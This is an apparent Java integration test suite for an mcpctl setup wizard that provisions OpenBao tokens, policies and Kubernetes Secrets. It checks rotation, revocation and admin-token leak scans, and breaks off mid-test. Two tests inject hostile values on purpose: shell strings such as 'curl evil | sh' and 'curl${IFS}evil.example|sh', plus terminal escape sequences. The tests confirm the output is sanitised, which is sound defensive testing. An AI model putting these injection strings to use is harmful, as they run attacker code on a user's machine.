package io.mcpctl.cli.wizard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.mcpctl.api.v1alpha1.ConsumersSpec;
import io.mcpctl.api.v1alpha1.RotationSpec;
import io.mcpctl.api.v1alpha1.SecretBackend;
import io.mcpctl.cli.CliHarness;
import io.mcpctl.cli.CliHarness.ScriptedTerminal;
import io.mcpctl.cli.KubeFixture;
import io.mcpctl.cli.LeakCheck;
import io.mcpctl.cli.backend.BackendNames;
import io.mcpctl.cli.backend.BackendObjects;
import io.mcpctl.cli.backend.BackendObjects.Rotation;
import io.mcpctl.openbao.IssuedToken;
import io.mcpctl.openbao.OpenBaoClient;
import io.mcpctl.openbao.TokenCreateRequest;
import io.mcpctl.openbao.TokenInfo;
import io.mcpctl.openbao.TokenRole;
import io.mcpctl.openbao.VaultToken;
import io.mcpctl.openbao.policy.NarrowAccess;
import io.mcpctl.openbao.policy.NarrowPolicy;
import io.mcpctl.sandbox.openbao.Fault;
import io.mcpctl.sandbox.openbao.RequestRecord;
import io.mcpctl.sandbox.openbao.StandInOptions;
import io.mcpctl.sandbox.openbao.TokenSnapshot;
import io.mcpctl.tokensecret.TokenSecretBinding;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The wizard against the OpenBao stand-in and the embedded Kubernetes API, over real HTTP. Every
 * test ends with the admin-token scan: no output, API object, log or file holds it.
 */
class OpenBaoWizardIT {

  /** The policy an mcpctl without per-namespace names wrote for every backend called bao. */
  private static final String LEGACY_POLICY =
      """
      # Managed by mcpctl: the narrow policy mcpctl-bao.
      # Secrets under secret/mcpctl/ (KV v2 data and metadata).
      path "secret/data/mcpctl/*" {
        capabilities = ["create", "read", "update", "delete"]
      }

      path "secret/metadata/mcpctl/*" {
        capabilities = ["read", "list", "delete"]
      }

      path "auth/token/create/mcpctl-bao-rotator" {
        capabilities = ["update"]
      }

      path "auth/token/lookup-self" {
        capabilities = ["read"]
      }

      path "auth/token/renew-self" {
        capabilities = ["update"]
      }

      path "auth/token/revoke-self" {
        capabilities = ["update"]
      }
      """;

  private static KubeFixture kube;
  private WizardFixture fixture;
  private KubernetesClient client;

  @BeforeAll
  static void startKubernetes() {
    kube = KubeFixture.start();
  }

  @AfterAll
  static void stopKubernetes() {
    kube.close();
  }

  @BeforeEach
  void startOpenBao() {
    fixture = new WizardFixture(kube, StandInOptions.defaults());
    client = kube.client();
  }

  @AfterEach
  void noAdminTokenAnywhereThenStopOpenBao() {
    try {
      fixture.assertAdminTokenLeakedNowhere();
    } finally {
      fixture.close();
    }
  }

  @Test
  void aFullRunSetsEverythingUpAndEndsWithTheMigrateCommand() {
    for (String name : List.of("github", "slack", "jira")) {
      labelledSecret(name, SecretBackend.BUILT_IN_DEFAULT_BACKEND);
    }
    long started = System.nanoTime();

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    System.out.printf("wizard wall time: %d ms%n", (System.nanoTime() - started) / 1_000_000);
    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stderr()).isEmpty();
    assertThat(result.stdout())
        .contains("[1/8] OpenBao health ... active")
        .contains("[2/8] Admin token capabilities ... root token")
        .contains("[3/8] KV v2 mount secret/ ... KV v2, exists")
        .contains("[4/8] Policy " + policy() + " ... created")
        .contains("[5/8] Token role " + role() + " ... created")
        .contains(
            "[6/8] First token ... minted (periodic 720h, orphan, policies default, "
                + policy()
                + ")")
        .contains(
            "[7/8] Verify the token ... lookup-self ok, KV write and read-back ok under secret/mcpctl/")
        .contains(
            "[8/8] Kubernetes objects ... Secret bao-token created, SecretBackend bao created")
        .contains(
            "The previous default backend 'default' holds 3 MCP secrets; move them to bao with:");
    List<String> lines = result.stdout().lines().toList();
    assertThat(lines.get(lines.size() - 1))
        .isEqualTo(
            "kubectl mcpctl migrate secrets --from default --to bao -n " + fixture.namespace);

    SecretBackend backend = backend("bao");
    assertThat(backend.getSpec().isDefaultBackend()).isTrue();
    assertThat(backend.getSpec().getOpenbao().getAddress())
        .isEqualTo(fixture.bao.address().toString());
    assertThat(backend.getSpec().getOpenbao().getAuth().getRotation().isEnabled()).isTrue();
    assertThat(backend.getSpec().getOpenbao().getAuth().getRotation().getTokenRole())
        .isEqualTo(role());
    Secret tokenSecret = secret("bao-token");
    assertThat(tokenSecret.getMetadata().getLabels())
        .containsEntry(SecretBackend.MANAGED_BY_LABEL, SecretBackend.MANAGED_BY_VALUE);
    assertThat(tokenSecret.getType()).isEqualTo(TokenSecretBinding.TYPE);
    assertThat(tokenSecret.getMetadata().getAnnotations())
        .containsEntry(TokenSecretBinding.BACKEND_ANNOTATION, "bao")
        .containsEntry(TokenSecretBinding.ADDRESS_ANNOTATION, fixture.bao.address().toString());
    TokenInfo stored =
        fixture
            .root()
            .withToken(VaultToken.of(BackendObjects.decoded(tokenSecret, "token").orElseThrow()))
            .lookupSelf();
    assertThat(stored.policies()).contains(policy());
    assertThat(stored.orphan()).isTrue();
    assertThat(stored.role()).contains(role());
    assertThat(BackendObjects.decoded(tokenSecret, "accessor")).contains(stored.accessor());
    assertThat(fixture.root().readPolicy(policy()).orElseThrow().policy())
        .isEqualTo(
            NarrowPolicy.hcl(
                NarrowAccess.forBackend(fixture.namespace, "bao", "secret", "mcpctl")));
    assertThat(mintedTokens())
        .as("exactly the stored token is alive")
        .extracting(TokenSnapshot::accessor)
        .containsExactly(stored.accessor());
  }

  @Test
  void aPeriodCappedByALowerMaxLeaseTtlIsAWarningLine() {
    fixture.close();
    fixture =
        new WizardFixture(
            kube, StandInOptions.defaults().leaseTtls(Duration.ofHours(24), Duration.ofHours(168)));

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout()).contains("minted (periodic 168h");
    assertThat(result.stderr())
        .contains(
            "warning: OpenBao capped the token period at 168h, shorter than the 720h the rotation"
                + " role asks for");
  }

  @Test
  void inAnOpenBaoNamespaceEverythingIsProvisionedAndVerifiedThere() {
    fixture.createOpenBaoNamespace("team-a");

    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness(), "bao", "--openbao-namespace", "team-a");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout())
        .contains(", OpenBao namespace team-a\n")
        .contains("[1/8] OpenBao health ... active")
        .contains("[3/8] KV v2 mount secret/ ... created (KV v2)")
        .contains("[4/8] Policy " + policy() + " ... created")
        .contains("[7/8] Verify the token ... lookup-self ok, KV write and read-back ok");
    assertThat(backend("bao").getSpec().getOpenbao().getNamespace()).isEqualTo("team-a");
    OpenBaoClient inTeam = fixture.rootIn("team-a");
    assertThat(inTeam.readPolicy(policy())).as("the policy lives in the namespace").isPresent();
    assertThat(fixture.root().readPolicy(policy())).as("not in the root namespace").isEmpty();
    assertThat(inTeam.readTokenRole(role())).isPresent();
    VaultToken stored =
        VaultToken.of(BackendObjects.decoded(secret("bao-token"), "token").orElseThrow());
    assertThat(fixture.rootIn("team-a").withToken(stored).lookupSelf().policies())
        .contains(policy());
    assertThat(stored.reveal()).as("a token of the namespace carries its id").contains(".");
  }

  @Test
  void aMissingOpenBaoNamespaceIsNamedWithWhatToDo() {
    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness(), "bao", "--openbao-namespace", "team-x");

    assertThat(result.exitCode()).isNotZero();
    assertThat(result.stderr())
        .contains(
            "has no namespace team-x (its administrator creates one with 'bao namespace create"
                + " team-x'; else correct the namespace)");
    assertThat(backend("bao")).isNull();
  }

  @Test
  void promotingDemotesThePreviousDefaultAndTheHintNamesIt() {
    client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .resource(
            BackendObjects.backend(fixture.namespace, "plain", BackendObjects.kubernetesSpec(true)))
        .create();
    labelledSecret("github", "plain");

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(backend("plain").getSpec().isDefaultBackend()).isFalse();
    assertThat(backend("bao").getSpec().isDefaultBackend()).isTrue();
    assertThat(result.stdout())
        .contains("SecretBackend plain no longer default")
        .contains("It is the namespace's default backend (before: plain).")
        .endsWith(
            "kubectl mcpctl migrate secrets --from plain --to bao -n " + fixture.namespace + "\n");
  }

  @Test
  void withNoPromoteDefaultThePreviousDefaultStaysAndNoMigrationIsSuggested() {
    client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .resource(
            BackendObjects.backend(fixture.namespace, "plain", BackendObjects.kubernetesSpec(true)))
        .create();
    labelledSecret("github", "plain");

    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness(), "bao", "--no-promote-default");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(backend("plain").getSpec().isDefaultBackend()).isTrue();
    assertThat(backend("bao").getSpec().isDefaultBackend()).isFalse();
    assertThat(result.stdout()).doesNotContain("migrate secrets");
  }

  @Test
  void noMigrationIsSuggestedWhenThePreviousDefaultIsEmpty() {
    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout()).doesNotContain("migrate");
  }

  @Test
  void aSecondRunChangesNothingAndWritesNothingToOpenBao() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    String secretVersion = secret("bao-token").getMetadata().getResourceVersion();
    String backendVersion = backend("bao").getMetadata().getResourceVersion();
    List<String> tokensBefore = mintedTokens().stream().map(TokenSnapshot::accessor).toList();
    fixture.bao.requestLog().clear();

    CliHarness.Result second = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(second.exitCode()).as(second.toString()).isZero();
    assertThat(second.stdout())
        .contains("[3/8] KV v2 mount secret/ ... KV v2, exists")
        .contains("[4/8] Policy " + policy() + " ... unchanged")
        .contains("[5/8] Token role " + role() + " ... exists and is safe")
        .contains("[6/8] First token ... kept the working token already in the Secret")
        .contains("Secret bao-token unchanged, SecretBackend bao unchanged")
        .contains("SecretBackend bao was already set up; nothing changed");
    assertThat(secret("bao-token").getMetadata().getResourceVersion()).isEqualTo(secretVersion);
    assertThat(backend("bao").getMetadata().getResourceVersion()).isEqualTo(backendVersion);
    assertThat(mintedTokens().stream().map(TokenSnapshot::accessor).toList())
        .isEqualTo(tokensBefore);
    assertThat(fixture.bao.requestLog().entries())
        .as("only reads, and the capability query, reach OpenBao on a re-run")
        .filteredOn(request -> !request.method().equals("GET"))
        .extracting(RequestRecord::path)
        .containsOnly("/v1/sys/capabilities-self");
  }

  @Test
  void aMintReplacingTheSecretRevokesEveryTokenItHeldAndDropsWhatDescribedThem() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    // Two forced rotations within a grace period: tokens wait in previous-token and
    // previous-token-2, each with its revocation time.
    IssuedToken waiting = fixture.root().createToken(role());
    IssuedToken waitingLonger = fixture.root().createToken(role());
    String current = BackendObjects.decoded(secret("bao-token"), "token").orElseThrow();
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .withName("bao-token")
        .edit(
            held ->
                new SecretBuilder(held)
                    .editMetadata()
                    .addToAnnotations("mcpctl.io/previous-revoke-after", "2025-06-01T12:00:00Z")
                    .addToAnnotations("mcpctl.io/previous-revoke-after-2", "2025-06-01T12:05:00Z")
                    .addToAnnotations("mcpctl.io/previous-retired-at-2", "2025-06-01T11:00:00Z")
                    .endMetadata()
                    .addToStringData("previous-token", waiting.clientToken().reveal())
                    .addToStringData("previous-token-2", waitingLonger.clientToken().reveal())
                    .build());
    // The current token stops working, so the re-run mints.
    fixture.root().withToken(VaultToken.of(current)).revokeSelf();

    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(rerun.exitCode()).as(rerun.toString()).isZero();
    assertThat(rerun.stdout()).contains("[6/8] First token ... minted");
    Secret replaced = secret("bao-token");
    assertThat(replaced.getData()).containsOnlyKeys("token", "accessor");
    assertThat(replaced.getMetadata().getAnnotations())
        .as("nothing left describing tokens the Secret no longer holds")
        .doesNotContainKeys(
            "mcpctl.io/previous-revoke-after",
            "mcpctl.io/previous-revoke-after-2",
            "mcpctl.io/previous-retired-at-2");
    assertThat(mintedTokens())
        .extracting(TokenSnapshot::accessor)
        .as("the replaced tokens are revoked, the new one stored")
        .containsExactly(BackendObjects.decoded(replaced, "accessor").orElseThrow());
  }

  @Test
  void aTokenSecretChangedWhileTheWizardRunsIsLeftAsItIsAndTheMintIsRevoked() throws Exception {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    // A token the Secret holds that no longer works makes the re-run mint a new one.
    fixture.root().revokeAccessor(mintedTokens().get(0).accessor());
    assertThat(mintedTokens()).isEmpty();
    fixture
        .bao
        .faults()
        .add(Fault.on("POST", "secret/data/.*").delay(Duration.ofSeconds(3)).build());

    CompletableFuture<CliHarness.Result> second =
        CompletableFuture.supplyAsync(() -> fixture.runWithRootToken(new CliHarness(), "bao"));
    await().atMost(Duration.ofSeconds(30)).until(() -> !mintedTokens().isEmpty());
    // Meanwhile someone else writes the Secret, as the operator's rotation would.
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .withName("bao-token")
        .edit(
            secret -> {
              secret.getMetadata().getAnnotations().put("example.com/written-meanwhile", "yes");
              return secret;
            });
    CliHarness.Result result = second.get(60, TimeUnit.SECONDS);

    assertThat(result.exitCode()).as(result.toString()).isNotZero();
    assertThat(result.stderr())
        .contains(
            "Secret bao-token changed while this run went on (the operator may have rotated the"
                + " token in it), so it was left as it is; run the command again.")
        .contains("Cleaned up: the token minted in this run was revoked");
    assertThat(mintedTokens()).as("the token this run minted, revoked").isEmpty();
    assertThat(secret("bao-token").getMetadata().getAnnotations())
        .as("the other writer's Secret, not overwritten")
        .containsEntry("example.com/written-meanwhile", "yes");
  }

  @Test
  void anOpaqueTokenSecretOfAnOlderMcpctlIsRecreatedBoundAndKeepsItsWorkingToken() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    Secret bound = secret("bao-token");
    Secret legacy = asAnOlderMcpctlWroteIt(bound);
    List<String> tokensBefore = mintedTokens().stream().map(TokenSnapshot::accessor).toList();

    CliHarness.Result second = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(second.exitCode()).as(second.toString()).isZero();
    assertThat(second.stdout())
        .contains("[6/8] First token ... kept the working token already in the Secret")
        .contains(
            "[8/8] Kubernetes objects ... Secret bao-token replaced, SecretBackend bao unchanged");
    Secret rebound = secret("bao-token");
    assertThat(rebound.getType()).isEqualTo(TokenSecretBinding.TYPE);
    assertThat(rebound.getMetadata().getAnnotations())
        .containsAllEntriesOf(
            TokenSecretBinding.Binding.rotated(
                    "bao", fixture.bao.address().toString(), TokenSecretBinding.TLS_SYSTEM)
                .annotations());
    assertThat(rebound.getMetadata().getUid())
        .as("a Secret's type never changes, so it was recreated")
        .isNotEqualTo(legacy.getMetadata().getUid());
    assertThat(rebound.getData()).isEqualTo(legacy.getData());
    assertThat(mintedTokens().stream().map(TokenSnapshot::accessor).toList())
        .isEqualTo(tokensBefore);
  }

  @Test
  void aBackendOnTheOldSharedNamesMovesToItsOwnAndLeavesTheOldPolicyAndRoleAlone() {
    OpenBaoClient root = fixture.root();
    root.writePolicy("mcpctl-bao", LEGACY_POLICY);
    root.writeTokenRole(
        new TokenRole(
            "mcpctl-bao-rotator",
            List.of("mcpctl-bao"),
            List.of(),
            true,
            true,
            Duration.ofHours(720),
            Duration.ZERO,
            "service",
            "",
            false,
            0));
    IssuedToken old =
        root.createToken(TokenCreateRequest.builder().role("mcpctl-bao-rotator").build());
    Secret legacy =
        client
            .secrets()
            .inNamespace(fixture.namespace)
            .resource(
                new SecretBuilder()
                    .withNewMetadata()
                    .withName("bao-token")
                    .addToLabels(SecretBackend.MANAGED_BY_LABEL, SecretBackend.MANAGED_BY_VALUE)
                    .endMetadata()
                    .withType("Opaque")
                    .addToStringData("token", old.clientToken().reveal())
                    .addToStringData("accessor", old.accessor())
                    .build())
            .create();
    existingBackendRotatingThrough("mcpctl-bao-rotator");

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout())
        .contains("[4/8] Policy " + policy() + " ... created")
        .contains("[5/8] Token role " + role() + " ... created")
        .contains("[6/8] First token ... minted")
        .contains("Secret bao-token replaced, SecretBackend bao updated")
        .contains("Revoked a token the Secret held before.")
        .contains(
            "SecretBackend bao no longer uses policy mcpctl-bao and token role mcpctl-bao-rotator"
                + " (mcpctl's old names, shared by the backends called bao in every namespace);"
                + " once no other backend uses them, delete them with:\n"
                + "  bao policy delete mcpctl-bao\n"
                + "  bao delete auth/token/roles/mcpctl-bao-rotator\n");
    assertThat(backend("bao").getSpec().getOpenbao().getAuth().getRotation().getTokenRole())
        .isEqualTo(role());
    Secret bound = secret("bao-token");
    assertThat(bound.getType()).isEqualTo(TokenSecretBinding.TYPE);
    assertThat(bound.getMetadata().getUid()).isNotEqualTo(legacy.getMetadata().getUid());
    assertThat(root.readPolicy("mcpctl-bao").orElseThrow().policy())
        .as("another namespace's bao may still use the old shared policy")
        .isEqualTo(LEGACY_POLICY);
    assertThat(root.readTokenRole("mcpctl-bao-rotator")).isPresent();
    assertThat(mintedTokens())
        .extracting(TokenSnapshot::accessor)
        .as("the old token is revoked, the new one stored")
        .containsExactly(BackendObjects.decoded(bound, "accessor").orElseThrow());
  }

  @Test
  void movingABackendToRolesOfItsOwnChoosingOffersToDeleteTheOnesAnEarlierRunMadeForIt() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();

    CliHarness.Result moved =
        fixture.runWithRootToken(
            new CliHarness(), "bao", "--policy-name", "bao-custom", "--token-role", "bao-custom");

    assertThat(moved.exitCode()).as(moved.toString()).isZero();
    assertThat(moved.stdout())
        .contains(
            "SecretBackend bao no longer uses policy "
                + policy()
                + " and token role "
                + role()
                + " (the names an earlier run made for it); once no other backend uses them,"
                + " delete them with:\n"
                + "  bao policy delete "
                + policy()
                + "\n"
                + "  bao delete auth/token/roles/"
                + role()
                + "\n");
  }

  @Test
  void aRoleTheSpecNamedIsNeverOfferedForDeletion() {
    // Whoever may edit the backend pointed it at another team's role.
    String theirs = "mcpctl-team-b.bao-rotator";
    existingBackendRotatingThrough(theirs);

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout())
        .contains(
            "SecretBackend bao no longer uses token role "
                + theirs
                + ", which its spec named; it may be another backend's, so check which backends"
                + " use it before deleting it.")
        .doesNotContain("bao delete auth/token/roles/" + theirs);
  }

  @Test
  void aTokenSecretBoundToAnotherBackendIsRefusedSayingWhoseItIs() {
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("bao-token")
                .addToLabels(SecretBackend.MANAGED_BY_LABEL, SecretBackend.MANAGED_BY_VALUE)
                .addToAnnotations(
                    TokenSecretBinding.Binding.rotated(
                            "other",
                            fixture.bao.address().toString(),
                            TokenSecretBinding.TLS_SYSTEM)
                        .annotations())
                .endMetadata()
                .withType(TokenSecretBinding.TYPE)
                .addToStringData("token", "s.TheTokenOfAnotherBackend")
                .build())
        .create();

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao", "--yes");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .isEqualTo(
            "error: Secret bao-token in namespace "
                + fixture.namespace
                + " is the token Secret of SecretBackend other (annotation"
                + " mcpctl.io/secretbackend=other), not of bao; choose another backend name, or"
                + " give other a token Secret of its own and delete this one first.\n");
    assertThat(fixture.bao.requestLog().entries())
        .as("refused before OpenBao is contacted")
        .isEmpty();
    LeakCheck.of("s.TheTokenOfAnotherBackend").assertNotIn(result);
  }

  @Test
  void theTokensOfASecretBoundToAnotherAddressAreNeitherSentHereNorRevoked() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    String oldAccessor = BackendObjects.decoded(secret("bao-token"), "accessor").orElseThrow();
    boundTo("https://old-bao.example:8200", Map.of());

    CliHarness.Result moved = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(moved.exitCode()).as(moved.toString()).isZero();
    assertThat(moved.stdout()).contains("[6/8] First token ... minted");
    assertThat(moved.stderr())
        .isEqualTo(
            "warning: Secret bao-token held tokens for OpenBao at https://old-bao.example:8200,"
                + " not "
                + fixture.bao.address()
                + ", so they were neither sent here nor revoked; revoke them there ('bao token"
                + " revoke -accessor "
                + oldAccessor
                + "'), or let them expire.\n");
    assertThat(mintedTokens())
        .extracting(TokenSnapshot::accessor)
        .as("the old token was not sent to this address, so it was not revoked either")
        .contains(oldAccessor)
        .hasSize(2);
    assertThat(secret("bao-token").getMetadata().getAnnotations())
        .containsEntry(TokenSecretBinding.ADDRESS_ANNOTATION, fixture.bao.address().toString());
  }

  @Test
  void hostileSpecAndSecretValuesReachTheTerminalNeitherAsEscapesNorAsCommandsToPaste() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    boundTo(
        "https://evil\u001b]52;c;ZXZpbA==\u0007.example:8200",
        Map.of("accessor", "a'; curl evil | sh; '"));
    String hostileRole = "x; curl -s https://evil/p | sh #\u001b]0;owned\u0007";
    tuneRotation("24h", "10m", "2m");
    editBackend(
        "bao",
        backend -> {
          backend.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(hostileRole);
        });

    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(rerun.exitCode()).as(rerun.toString()).isZero();
    String printed = rerun.stdout() + rerun.stderr();
    assertThat(printed).doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f]");
    assertThat(printed).doesNotContain("curl").doesNotContain("no longer uses");
    assertThat(rerun.stderr())
        .contains("held tokens for OpenBao at https://evil?]52;c;ZXZpbA==?.example:8200")
        .doesNotContain("-accessor");
  }

  @Test
  void aPathPrefixWithWhitespaceIsAUsageErrorBeforeAnythingIsContacted() {
    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness(), "bao", "--path-prefix", "a b");

    assertThat(result.exitCode()).isEqualTo(2);
    assertThat(result.stderr())
        .startsWith("error: ")
        .contains("contains whitespace, '*', '+' or '\"'")
        .hasLineCount(1);
    assertThat(fixture.bao.requestLog().entries()).isEmpty();
    assertNothingCreated();
  }

  @Test
  void aReRunKeepsHandTunedTimingAndAGivenFlagChangesItAndSaysSo() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    tuneRotation("12h", "30m", "7m");

    CliHarness.Result kept = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(kept.exitCode()).as(kept.toString()).isZero();
    assertThat(kept.stdout())
        .contains("Secret bao-token unchanged, SecretBackend bao unchanged")
        .contains("was already set up; nothing changed")
        .contains("rotated every 12h by the operator");
    assertThat(rotation())
        .extracting("interval", "jitter", "revokeGracePeriod")
        .containsExactly("12h", "30m", "7m");

    CliHarness.Result newInterval =
        fixture.runWithRootToken(new CliHarness(), "bao", "--rotation-interval", "6h");

    assertThat(newInterval.exitCode()).as(newInterval.toString()).isZero();
    assertThat(newInterval.stdout())
        .contains("SecretBackend bao updated (interval 12h -> 6h, jitter 30m -> 10m)");
    assertThat(rotation())
        .extracting("interval", "jitter", "revokeGracePeriod")
        .containsExactly("6h", "10m", "7m");

    CliHarness.Result newGrace =
        fixture.runWithRootToken(new CliHarness(), "bao", "--revoke-grace-period", "3m");

    assertThat(newGrace.exitCode()).as(newGrace.toString()).isZero();
    assertThat(newGrace.stdout())
        .contains("SecretBackend bao updated (revokeGracePeriod 7m -> 3m)");
    assertThat(rotation())
        .extracting("interval", "jitter", "revokeGracePeriod")
        .containsExactly("6h", "10m", "3m");
  }

  @Test
  void aReRunWithoutTheMountFlagNeverMovesTheBackendOffTheMountItUses() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao", "--mount", "kv");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    String backendVersion = backend("bao").getMetadata().getResourceVersion();
    fixture.bao.requestLog().clear();

    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(rerun.exitCode()).as(rerun.toString()).isEqualTo(1);
    assertThat(rerun.stderr().strip())
        .isEqualTo(
            "error: SecretBackend bao uses mount kv, and without --mount this run would move it to"
                + " mount secret, where its MCP secrets are not; pass --mount kv to keep it, or the"
                + " new one to move it on purpose.");
    assertThat(backend("bao").getMetadata().getResourceVersion()).isEqualTo(backendVersion);
    assertThat(fixture.bao.requestLog().entries()).as("requests to OpenBao").isEmpty();

    CliHarness.Result kept = fixture.runWithRootToken(new CliHarness(), "bao", "--mount", "kv");

    assertThat(kept.exitCode()).as(kept.toString()).isZero();
    assertThat(kept.stdout()).contains("SecretBackend bao unchanged");
  }

  @Test
  void aPathPrefixAShellWouldActOnIsNeverOfferedAsAFlagToPaste() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    String hostile = "mcpctl;curl${IFS}evil.example|sh";
    editBackend(
        "bao",
        backend -> {
          backend.getSpec().getOpenbao().getKv().setPathPrefix(hostile);
        });

    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(rerun.exitCode()).as(rerun.toString()).isEqualTo(1);
    assertThat(rerun.stderr().strip())
        .isEqualTo(
            "error: SecretBackend bao uses path prefix "
                + hostile
                + ", and without --path-prefix this run would move it to path prefix mcpctl,"
                + " where its MCP secrets are not; pass --path-prefix with the value the"
                + " backend's spec holds (it has characters a shell would act on, so check who"
                + " wrote it; this run does not repeat it as a command) to keep it, or the new one"
                + " to move it on purpose.");
  }

  @Test
  void aReRunKeepsTheConsumersSettingAndWhichBackendIsTheDefault() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    CliHarness.Result second =
        fixture.runWithRootToken(new CliHarness(), "other", "--no-promote-default");
    assertThat(second.exitCode()).as(second.toString()).isZero();
    editBackend(
        "other",
        backend -> {
          ConsumersSpec consumers = new ConsumersSpec();
          consumers.setRestart(ConsumersSpec.RESTART_ROLLOUT);
          consumers.setMaxRevokeDelay("30m");
          backend.getSpec().getOpenbao().getAuth().getRotation().setConsumers(consumers);
        });

    CliHarness.Result rerun =
        fixture.runWithRootToken(new CliHarness(), "other", "--rotation-interval", "12h");

    assertThat(rerun.exitCode()).as(rerun.toString()).isZero();
    assertThat(rerun.stdout())
        .contains(
            "SecretBackend other exists and is not the namespace's default; it stays so (only a"
                + " new backend is promoted).")
        .doesNotContain("no longer default");
    assertThat(backend("bao").getSpec().isDefaultBackend()).isTrue();
    assertThat(backend("other").getSpec().isDefaultBackend()).isFalse();
    assertThat(backend("other").getSpec().getOpenbao().getAuth().getRotation().getConsumers())
        .extracting(ConsumersSpec::getRestart, ConsumersSpec::getMaxRevokeDelay)
        .containsExactly(ConsumersSpec.RESTART_ROLLOUT, "30m");
    assertThat(rotation("other").getInterval()).isEqualTo("12h");
  }

  @Test
  void aKeptGracePeriodThatDoesNotFitTheNewIntervalIsRefusedBeforeOpenBaoIsContacted() {
    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
    assertThat(first.exitCode()).as(first.toString()).isZero();
    tuneRotation("24h", "10m", "7m");
    fixture.bao.requestLog().clear();

    CliHarness.Result refused =
        fixture.runWithRootToken(new CliHarness(), "bao", "--rotation-interval", "1m");

    assertThat(refused.exitCode()).isEqualTo(1);
    assertThat(refused.stderr())
        .isEqualTo(
            "error: The revokeGracePeriod 7m kept from SecretBackend bao must end before the next"
                + " rotation (54s after the switch); lower it, such as 6s; pass"
                + " --revoke-grace-period to set another.\n");
    assertThat(fixture.bao.requestLog().entries()).isEmpty();
    assertThat(rotation().getRevokeGracePeriod()).isEqualTo("7m");
  }

  @Test
  void anEmptyAdminTokenIsRejectedBeforeAnythingIsContacted() {
    CliHarness.Result result =
        fixture.run(
            new CliHarness(),
            fixture.wizard(
                "bao", "--admin-token-file", fixture.secretFile("empty", "\n").toString()));

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .startsWith("error: The OpenBao admin token from the admin token file ")
        .contains(" is empty; provide a token");
    assertThat(fixture.bao.requestLog().entries()).isEmpty();
    assertNothingCreated();
  }

  @Test
  void withoutAnyAdminTokenAndNoTerminalItFailsSayingHowToPassOne() {
    CliHarness.Result result = fixture.run(new CliHarness(), fixture.wizard("bao"));

